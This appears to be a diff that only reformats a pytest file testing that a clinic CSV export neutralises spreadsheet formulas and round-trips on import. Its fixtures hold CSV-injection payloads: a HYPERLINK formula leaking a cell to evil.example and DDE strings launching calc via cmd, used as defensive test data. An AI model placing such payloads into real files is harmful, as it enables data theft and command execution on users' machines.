@@ -1,4 +1,5 @@
 """Both CSV exports are safe to open in a spreadsheet, and the clinic export still round-trips."""
+
 from __future__ import annotations
 
 import csv
@@ -16,17 +17,52 @@ from bot.models import Clinic
 from tests.clinic_factory import make_clinic
 
 HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
-HOSTILE = {"name": HOSTILE_NAME, "notes": "+cmd|' /C calc'!A0", "insurance_notes": "-2+3+cmd|' /C calc'!A0",
-           "languages": ["@SUM(1+1)*cmd|' /C calc'!A0", "English"], "phone": "+1 404 555 0100"}
-TRICKY = ["", "plain", "=1+1", "+1 404 555 0100", "-84.40000", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "'", "'plain",
-          "'=already quoted", "''+twice", "O'Brien", "-", "=", "'-84.4"]
+HOSTILE = {
+    "name": HOSTILE_NAME,
+    "notes": "+cmd|' /C calc'!A0",
+    "insurance_notes": "-2+3+cmd|' /C calc'!A0",
+    "languages": ["@SUM(1+1)*cmd|' /C calc'!A0", "English"],
+    "phone": "+1 404 555 0100",
+}
+TRICKY = [
+    "",
+    "plain",
+    "=1+1",
+    "+1 404 555 0100",
+    "-84.40000",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTab",
+    "\rCR",
+    "'",
+    "'plain",
+    "'=already quoted",
+    "''+twice",
+    "O'Brien",
+    "-",
+    "=",
+    "'-84.4",
+]
 
 
-@pytest.mark.parametrize("value, expected", [
-    ("=HYPERLINK(1)", "'=HYPERLINK(1)"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"),
-    ("-84.40000", "-84.40000"), ("-73", "-73"), ("plain", "plain"), ("O'Brien", "O'Brien"), (None, ""), (3, "3"),
-])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
+        ("+1", "'+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'=x", "''=x"),
+        ("-84.40000", "-84.40000"),
+        ("-73", "-73"),
+        ("plain", "plain"),
+        ("O'Brien", "O'Brien"),
+        (None, ""),
+        (3, "3"),
+    ],
+)
 def test_cells_a_spreadsheet_would_run_get_an_apostrophe(value: object, expected: str) -> None:
     assert neutralise_cell(value) == expected
 
@@ -84,14 +120,18 @@ def test_the_clinic_export_neutralises_formulas_and_round_trips(engine: Engine) 
     assert export(engine) == first
 
 
-@pytest.mark.parametrize("cell, stored", [
-    ("'=1+1 in notes", "=1+1 in notes"),
-    ("''=quoted twice", "'=quoted twice"),
-    ("'plain with an apostrophe", "'plain with an apostrophe"),
-    ("O'Brien's notes", "O'Brien's notes"),
-])
-def test_the_import_strips_one_apostrophe_before_a_formula_character_only(engine: Engine, cell: str,
-                                                                           stored: str) -> None:
+@pytest.mark.parametrize(
+    "cell, stored",
+    [
+        ("'=1+1 in notes", "=1+1 in notes"),
+        ("''=quoted twice", "'=quoted twice"),
+        ("'plain with an apostrophe", "'plain with an apostrophe"),
+        ("O'Brien's notes", "O'Brien's notes"),
+    ],
+)
+def test_the_import_strips_one_apostrophe_before_a_formula_character_only(
+    engine: Engine, cell: str, stored: str
+) -> None:
     with session_scope(engine) as session:
         session.add(make_clinic("source", 33.7, -84.4))
     record = rows_of(export(engine))["source"]
